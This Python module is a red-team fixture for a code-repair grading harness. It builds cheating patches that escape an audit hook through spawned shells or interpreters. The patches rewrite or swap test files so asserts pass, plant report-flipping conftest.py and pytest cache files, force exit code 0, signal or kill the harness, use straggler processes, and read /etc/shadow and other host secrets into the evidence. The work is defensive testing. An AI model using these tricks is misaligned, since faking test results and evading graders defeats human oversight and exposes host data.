"""Round 11 of the repair red team, part b (issue 51: verdicts a candidate cannot reach, nothing untrusted on the
host): kinds of cheating candidate aimed AROUND the test process, built against main 185f144 before any change.
Each spelling is a tuple of edits of the tally fixture (tests/repair_fixture.py) made on x_G of the W1 + W2 task,
as tests/redteam_round10b_cheats.py makes them; none fixes W1's bug (W2 is fixed, as in round 10b, so that W1's
tests are the only ones left failing).

The common step: the candidate's changed file (tally/__init__.py, which the first test module imports while
pytest collects it) writes a module of the package at run time and imports it. That module is no file of the
diff, so the static layer never reads it; the hook counts it as changed code (its ctime is after the runner
started). What it does is start a process: `os.system`, `os.posix_spawn`, `os.fork` + `os.execv`, the
environment's own interpreter. The audit hook is per interpreter and Landlock is about /proc only, so the
process it starts (a shell, a fresh `python -I`) runs with no hook at all, as the tests' user, with the tree
writable. What it aims at:

- **The test files, by a process the hook does not watch.** Round 10b closed test files rewritten by the tests'
  own frames and by calls pytest makes (the hook's file events, whoever is on the stack); the kernel keeps them
  only where the harness is root (a container). A shell rewrites them in place (local: the files are the
  tests' user's own, chmod 444 is undone by their owner), or moves the whole folder aside and puts a rewritten
  copy in its place (both runtimes: the tree's root is the tests' user's, and a folder may be renamed inside a
  folder one may write, whoever owns the folder moved), and puts the originals back before the harness takes
  its digests: at the first call of the package (after collection), or from a process that left the runner's
  session and waits for the runner to exit (the harness kills the session, then digests), or by a link back
  to the originals (the digest opens the path and follows it).
- **Files pytest looks for, planted after start** by such a process: `tests/__init__.py` (pytest then imports
  the test modules as a package, running it first), a `conftest.py` in the rootdir and beside the tests, and
  pytest's cache (`lastfailed`).
- **The exit status** chosen after pytest's final record (an `atexit` hook, a thread) or before it.
- **Signals** from the runtime-written module (the static layer refused round 10b's; this module is never read).
- **Stragglers** that outlive the runner and write the channel after its last record.
- **Host files into the evidence**: the output's tail is copied into a no-verdict's evidence.
"""

from __future__ import annotations

from typing import NamedTuple

from tests.redteam_round9b_cheats import FMT_FUNCS, WORDS_FUNCS, _calls_first
from tests.test_repair_redteam import FIX_CASE, FIX_SORT, FMT, INIT, WORDS, Edit, prepend

CANARY = "rt11b_canary"  # the name of whatever a containment kind leaves, for the test to look for
SECRET = "rt11b-host-secret-7f3a9c"  # the content of the host files the evidence must never carry
HOST_SECRETS = ("/tmp/rt11b_secret.txt", "/root/rt11b_secret.txt", "/var/tmp/rt11b_secret.txt")

# -- the common step: a module written at run time (never read by the static layer), imported, run ----------------
# tally/__init__.py (changed) writes tally/_rt11b.py with HELPER's text and imports it; `_forge` (called first by
# every public function of words.py and fmt.py: after collection, when the tests run) calls its `restore`.
AT_IMPORT = '''
import os as _os

with open("tally/_rt11b.py", "w") as _helper:
    _helper.write(@HELPER@)
with open("tally/.rt11b_setup", "w") as _script:
    _script.write(@SETUP@)
with open("tally/.rt11b_restore", "w") as _script:
    _script.write(@RESTORE@)

from tally import _rt11b  # noqa: E402


def _forge():
    _rt11b.restore()

'''
HELPER = '''
import os
import sys

DONE = []


def spawn(script):
    SPAWN


spawn("tally/.rt11b_setup")


def restore():
    if not DONE:
        DONE.append(1)
        spawn("tally/.rt11b_restore")
'''
# How the module starts a process (the shell or python script's path is `script`); each waits for it
SPAWNS = {
    "os.system": 'os.system("/bin/sh " + script + " " + str(os.getpid()))',
    "os.posix_spawn": '''pid = os.posix_spawn("/bin/sh", ["sh", script, str(os.getpid())], dict(os.environ))
    os.waitpid(pid, 0)''',
    "os.fork and os.execv": '''me = os.getpid()
    pid = os.fork()
    if pid == 0:
        os.execv("/bin/sh", ["sh", script, str(me)])
    os.waitpid(pid, 0)''',
}
# the script run by the environment's interpreter instead of a shell (-I: no hook, no site of the tree)
PYTHON_SPAWN = '''pid = os.posix_spawn(sys.executable, [sys.executable, "-I", script, str(os.getpid())], dict(os.environ))
    os.waitpid(pid, 0)'''


def helper_edits(spawn: str, setup: str, restore: str, *extra: Edit, python: bool = False) -> tuple[Edit, ...]:
    helper = HELPER.replace("SPAWN", PYTHON_SPAWN if python else SPAWNS[spawn])
    code = AT_IMPORT.replace("@HELPER@", repr(helper)).replace("@SETUP@", repr(setup)).replace(
        "@RESTORE@", repr(restore))
    return (prepend(INIT, code),
            prepend(WORDS, "from tally import _forge\n"), *_calls_first(WORDS, WORDS_FUNCS, "_forge"),
            prepend(FMT, "from tally import _forge\n"), *_calls_first(FMT, FMT_FUNCS, "_forge"),
            FIX_CASE, FIX_SORT, *extra)


# -- kind: test files rewritten in place by a shell, put back at the first call ------------------------------------
# Every test file but the one being collected (test_fmt.py) and the renamed copies: each assert made true. The
# files are 0444 (the harness's _protect); under --runtime local their owner is the tests' user, who may chmod.
IN_PLACE_SETUP = r'''
for f in tests/test_*.py; do
  case "$f" in */test_fmt.py) continue;; esac
  b=$(basename "$f")
  cat "$f" > "tally/.orig_$b"
  chmod u+w "$f" 2>/dev/null
  sed 's/assert /assert True or /' "tally/.orig_$b" > "$f" 2>/dev/null
  chmod 444 "$f" 2>/dev/null
done
true
'''
IN_PLACE_RESTORE = r'''
for o in tally/.orig_*; do
  [ -f "$o" ] || continue
  f="tests/${o#tally/.orig_}"
  chmod u+w "$f" 2>/dev/null
  cat "$o" > "$f" 2>/dev/null
  chmod 444 "$f" 2>/dev/null
done
true
'''

# -- kind: the tests' folder moved aside, a rewritten copy put in its place ---------------------------------------
# The tree's root is the tests' user's in both runtimes; tests/ is root's and sticky in a container (round 10b),
# which keeps its files, not the folder's name in the tree's root.
SWAP_SETUP = r'''
rm -rf .rt11b_fake
cp -r tests .rt11b_fake
chmod -R u+w .rt11b_fake
for f in .rt11b_fake/test_*.py; do
  case "$f" in */test_fmt.py) continue;; esac
  sed -i 's/assert /assert True or /' "$f"
done
mv tests .rt11b_real && mv .rt11b_fake tests
true
'''
SWAP_RESTORE = r'''
[ -d .rt11b_real ] && mv tests .rt11b_fake && mv .rt11b_real tests
true
'''
# put back by a link: the digest opens tests/<file> and follows the link to the originals
LINK_RESTORE = r'''
[ -d .rt11b_real ] && mv tests .rt11b_fake && ln -s .rt11b_real tests
true
'''
# put back by a process that left the runner's session (no setsid program in a slim image: python's), which
# waits for the runner (its pid is the script's $1) to exit: the harness kills the session, then digests
STRAGGLER_RESTORE = r'''
cat > tally/.rt11b_late.py <<'EOF'
import os, sys, time
runner = int(sys.argv[1])
if os.fork():
    os._exit(0)
os.setsid()
if os.fork():
    os._exit(0)
deadline = time.time() + 280
while time.time() < deadline:
    try:
        os.kill(runner, 0)
    except OSError:
        break
    time.sleep(0.01)
if os.path.isdir(".rt11b_real"):
    os.rename("tests", ".rt11b_fake")
    os.rename(".rt11b_real", "tests")
EOF
"$(command -v python3 || command -v python)" -I tally/.rt11b_late.py "$1" </dev/null >/dev/null 2>&1
true
'''
PY_SWAP_SETUP = r'''
import os
import shutil
import sys

shutil.rmtree(".rt11b_fake", ignore_errors=True)
shutil.copytree("tests", ".rt11b_fake")
for name in os.listdir(".rt11b_fake"):
    path = os.path.join(".rt11b_fake", name)
    os.chmod(path, 0o644)
    if name.startswith("test_") and name.endswith(".py") and name != "test_fmt.py":
        with open(path) as f:
            text = f.read()
        with open(path, "w") as f:
            f.write(text.replace("assert ", "assert True or "))
os.rename("tests", ".rt11b_real")
os.rename(".rt11b_fake", "tests")
'''
PY_SWAP_RESTORE = r'''
import os

if os.path.isdir(".rt11b_real"):
    os.rename("tests", ".rt11b_fake")
    os.rename(".rt11b_real", "tests")
'''
PY_IN_PLACE_SETUP = r'''
import os

for name in sorted(os.listdir("tests")):
    if name.startswith("test_") and name.endswith(".py") and name != "test_fmt.py":
        path = os.path.join("tests", name)
        with open(path) as f:
            text = f.read()
        with open("tally/.orig_" + name, "w") as f:
            f.write(text)
        try:
            os.chmod(path, 0o644)
            with open(path, "w") as f:
                f.write(text.replace("assert ", "assert True or "))
            os.chmod(path, 0o444)
        except OSError:
            pass
'''
PY_IN_PLACE_RESTORE = r'''
import os

for name in sorted(os.listdir("tally")):
    if name.startswith(".orig_"):
        path = os.path.join("tests", name[len(".orig_"):])
        with open(os.path.join("tally", name)) as f:
            text = f.read()
        try:
            os.chmod(path, 0o644)
            with open(path, "w") as f:
                f.write(text)
            os.chmod(path, 0o444)
        except OSError:
            pass
'''

# -- kind: files pytest looks for, planted by the shell after start ------------------------------------------------
# tests/__init__.py: pytest (rootdir-based names, prepend mode) then imports tests/test_words.py as
# tests.test_words, running the package first: code no static rule read, which makes split_words' results
# equal to anything (round 10b's EQUAL).
EQUAL = """
import tally.words as _w

_real = _w.split_words


class _Same(list):
    def __eq__(self, other):
        return True

    __hash__ = None


def _split(text):
    return _Same(_real(text))


_w.split_words = _split
"""
PACKAGE_SETUP = r'''
cat > tests/__init__.py <<'EOF'
@EQUAL@
EOF
true
'''
PACKAGE_RESTORE = "rm -f tests/__init__.py\ntrue\n"
# a report hook in conftests where pytest might look (tests/ is writable by all in a container: sticky), and
# pytest's cache saying nothing failed last time
CONFTEST = '''
import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    outcome.get_result().outcome = "passed"
'''
CONFTEST_SETUP = r'''
cat > tests/conftest.py <<'EOF'
@CONFTEST@
EOF
cp tests/conftest.py conftest.py
mkdir -p tally/sub && cp tests/conftest.py tally/sub/conftest.py
true
'''
CACHE_SETUP = r'''
for d in . tests; do
  mkdir -p "$d/.pytest_cache/v/cache"
  echo '{}' > "$d/.pytest_cache/v/cache/lastfailed"
  echo '[]' > "$d/.pytest_cache/v/cache/stepwise"
  printf 'Signature: 8a477f597d28d172789f06886806bc55\n' > "$d/.pytest_cache/CACHEDIR.TAG"
done
cat > pytest.ini <<'EOF'
[pytest]
addopts = -p no:python
EOF
true
'''
CLEAN_PLANTED = "rm -f tests/conftest.py\ntrue\n"

# -- kind: the exit status chosen around pytest's final record ----------------------------------------------------
# Written at run time (the static layer refuses os._exit, atexit, threads): pytest's session ends with 1 (W1
# fails); the process leaves with 0.
EXIT_CODES = {
    "atexit: os._exit(0) after pytest's final record": '''
import atexit
import os

atexit.register(os._exit, 0)


def restore():
    pass
''',
    "a thread that waits for the main thread to end, then os._exit(0)": '''
import os
import threading
import time


def _late():
    main = threading.main_thread()
    while main.is_alive():
        time.sleep(0.005)
    os._exit(0)


threading.Thread(target=_late).start()


def restore():
    pass
''',
    "os._exit(0) from the first call of the package (before W1's test)": '''
import os


def restore():
    os._exit(0)
''',
}

# -- kind: signals from the module the static layer never reads ---------------------------------------------------
SIGNALS = {
    "os.kill: SIGSTOP then SIGCONT to the harness, every call": '''
import os
import signal

os.kill(os.getppid(), signal.SIGSTOP)
os.kill(os.getppid(), signal.SIGCONT)


def restore():
    os.kill(os.getppid(), signal.SIGSTOP)
    os.kill(os.getppid(), signal.SIGCONT)
''',
    "os.killpg: SIGKILL to the harness's own group at the first call": '''
import os
import signal


def restore():
    try:
        os.kill(os.getppid(), signal.SIGKILL)
    except OSError:
        pass
''',
}

# -- kind: a straggler that outlives the runner writes the channel after its last record -------------------------
STRAGGLER_CHANNEL = '''
import os
import stat
import time


def _channel():
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                return fd
        except OSError:
            continue
    return None


_fd = _channel()
_runner = os.getpid()
if _fd is not None and os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            try:
                os.kill(_runner, 0)
            except OSError:
                break
            time.sleep(0.01)
        try:
            os.write(_fd, PAYLOAD)
        except OSError:
            pass
    os._exit(0)


def restore():
    pass
'''
STRAGGLER_PAYLOADS = {
    "a newline and a line of hex after the runner exits": b"\n" + b"0" * 64 + b" {}\n",
    "only newlines and NUL bytes after the runner exits": b"\n\n\0\n",
}

# -- containment: host files read into the evidence -----------------------------------------------------------------
# A shell prints host paths (the secrets the test puts on the host, /etc/shadow, root's files, the docker socket's
# folder) to the runner's output, then the runner leaves early: no final record, so the grade has no verdict and
# its evidence carries the output's tail.
HOST_READ_SETUP = r'''
for p in @PATHS@ /etc/shadow /etc/hostname /root/.bash_history /var/run/docker.sock /run/docker.sock; do
  echo "== $p"
  cat "$p" 2>&1 | head -c 100
  ls "$(dirname "$p")" 2>&1 | grep -c . 
done
true
'''
HOST_READ_HELPER_EXIT = '''
import os
import stat

os.system("/bin/sh tally/.rt11b_setup > tally/.rt11b_out 2>&1")
with open("tally/.rt11b_out", "rb") as f:
    TEXT = f.read()[-1500:]
for fd in range(1, 64):
    try:
        if stat.S_ISREG(os.fstat(fd).st_mode):
            os.write(fd, b"\\n" + TEXT + b"\\n")
    except OSError:
        pass
os._exit(3)


def restore():
    pass
'''
HOST_READ_PY = r'''
import os
import sys

import stat

TEXT = ""
for p in @PYPATHS@ + ["/etc/shadow", "/etc/hostname", "/var/run/docker.sock"]:
    try:
        with open(p) as f:
            TEXT += "== " + p + " " + f.read(100) + "\n"
    except OSError as e:
        TEXT += "== " + p + " " + type(e).__name__ + "\n"
for fd in range(1, 64):
    try:
        if stat.S_ISREG(os.fstat(fd).st_mode):
            os.write(fd, ("\n" + TEXT).encode())
    except OSError:
        pass
os._exit(3)


def restore():
    pass
'''


def module_edits(module: str, *extra: Edit) -> tuple[Edit, ...]:
    """tally/__init__.py writes `module` as tally/_rt11b.py and imports it (its `restore` runs at the first call)."""
    code = AT_IMPORT.replace("@HELPER@", repr(module)).replace("@SETUP@", repr("")).replace("@RESTORE@", repr(""))
    return (prepend(INIT, code),
            prepend(WORDS, "from tally import _forge\n"), *_calls_first(WORDS, WORDS_FUNCS, "_forge"),
            prepend(FMT, "from tally import _forge\n"), *_calls_first(FMT, FMT_FUNCS, "_forge"),
            FIX_CASE, FIX_SORT, *extra)


def host_read(spelling: str) -> tuple[Edit, ...]:
    if spelling.startswith("python"):
        module = HOST_READ_PY.replace("@PYPATHS@", repr(list(HOST_SECRETS)))
        return module_edits(module)
    setup = HOST_READ_SETUP.replace("@PATHS@", " ".join(HOST_SECRETS))
    code = AT_IMPORT.replace("@HELPER@", repr(HOST_READ_HELPER_EXIT)).replace("@SETUP@", repr(setup)).replace(
        "@RESTORE@", repr(""))
    return (prepend(INIT, code), FIX_CASE, FIX_SORT)


class Kind(NamedTuple):
    cls: str  # the class, (a) to (g)
    what: str  # one line
    spellings: dict[str, tuple[Edit, ...]]


KINDS: dict[str, Kind] = {
    "test_files_rewritten_in_place_by_a_process_the_hook_does_not_watch": Kind(
        "b", "a shell started by a module written at run time chmods the test files and copies, rewrites them "
             "(asserts made true) and puts them back at the first call",
        {f"{s}: sh, in place, put back at the first call": helper_edits(s, IN_PLACE_SETUP, IN_PLACE_RESTORE)
         for s in SPAWNS}),
    "test_folder_swapped_by_a_process_the_hook_does_not_watch": Kind(
        "b", "a shell moves tests/ aside and puts a rewritten copy in its place; moved back at the first call",
        {**{f"{s}: sh, mv, moved back at the first call": helper_edits(s, SWAP_SETUP, SWAP_RESTORE)
            for s in ("os.system", "os.posix_spawn")},
         "os.system: sh, mv, put back as a link to the originals": helper_edits(
             "os.system", SWAP_SETUP, LINK_RESTORE)}),
    "test_folder_put_back_by_a_straggler_after_the_runner_exits": Kind(
        "b", "the same swap, put back by a process that left the runner's session, once the runner has exited "
             "(before the harness's digests)",
        {"os.system: sh, mv; a double-forked python waits for the runner": helper_edits(
            "os.system", SWAP_SETUP, STRAGGLER_RESTORE),
         "os.fork and os.execv: sh, mv; a double-forked python waits for the runner": helper_edits(
             "os.fork and os.execv", SWAP_SETUP, STRAGGLER_RESTORE)}),
    "test_folder_swapped_by_a_child_interpreter_without_the_hook": Kind(
        "b", "the environment's python (-I: no audit hook, no site of the tree) moves tests/ aside, puts a "
             "rewritten copy in its place and moves it back",
        {"python -I by os.posix_spawn: os.rename of the folder, moved back at the first call": helper_edits(
            "", PY_SWAP_SETUP, PY_SWAP_RESTORE, python=True)}),
    "test_files_rewritten_in_place_by_a_child_interpreter_without_the_hook": Kind(
        "b", "the environment's python (-I: no audit hook) chmods and rewrites the test files and copies, and "
             "puts them back",
        {"python -I by os.posix_spawn: open() to write, put back at the first call": helper_edits(
            "", PY_IN_PLACE_SETUP, PY_IN_PLACE_RESTORE, python=True)}),
    "package_init_planted_beside_the_tests": Kind(
        "f", "a shell writes tests/__init__.py: pytest imports the test modules as a package, running it first; "
             "it makes split_words' results equal to anything",
        {f"{s}: tests/__init__.py, removed at the first call": helper_edits(
            s, PACKAGE_SETUP.replace("@EQUAL@", EQUAL), PACKAGE_RESTORE) for s in ("os.system", "os.posix_spawn")}),
    "conftest_and_cache_planted_after_start": Kind(
        "b", "a shell writes a report-flipping conftest.py in the rootdir, beside the tests and in the package, "
             "and pytest's cache (lastfailed, stepwise) and a pytest.ini",
        {"os.system: conftest.py in the rootdir, tests/ and a package folder": helper_edits(
            "os.system", CONFTEST_SETUP.replace("@CONFTEST@", CONFTEST), CLEAN_PLANTED),
         "os.system: .pytest_cache's lastfailed and stepwise, a pytest.ini": helper_edits(
             "os.system", CACHE_SETUP, "true\n")}),
    "exit_status_chosen_around_the_final_record": Kind(
        "b", "os._exit(0) after pytest's final record (atexit, a thread) or before it",
        {k: module_edits(v) for k, v in EXIT_CODES.items()}),
    "harness_signalled_from_a_module_the_static_layer_never_reads": Kind(
        "b", "the runtime-written module stops, continues or kills the harness (its parent)",
        {k: module_edits(v) for k, v in SIGNALS.items()}),
    "channel_written_by_a_straggler_after_the_runner_exits": Kind(
        "b", "a double-forked process holding the channel's descriptor writes it once the runner has exited",
        {k: module_edits(STRAGGLER_CHANNEL.replace("PAYLOAD", repr(v))) for k, v in STRAGGLER_PAYLOADS.items()}),
    "host_files_read_into_the_evidence": Kind(
        "g", "the runner prints host files (secrets the test puts on the host, /etc/shadow, root's files) and "
             "leaves with no final record: a no-verdict's evidence carries the output's tail",
        {k: host_read(k) for k in ("sh: cat and ls of host paths, then os._exit(3)",
                                   "python: open() of host paths, then os._exit(3)")}),
}

__all__ = ["CANARY", "HOST_SECRETS", "KINDS", "SECRET", "Kind"]
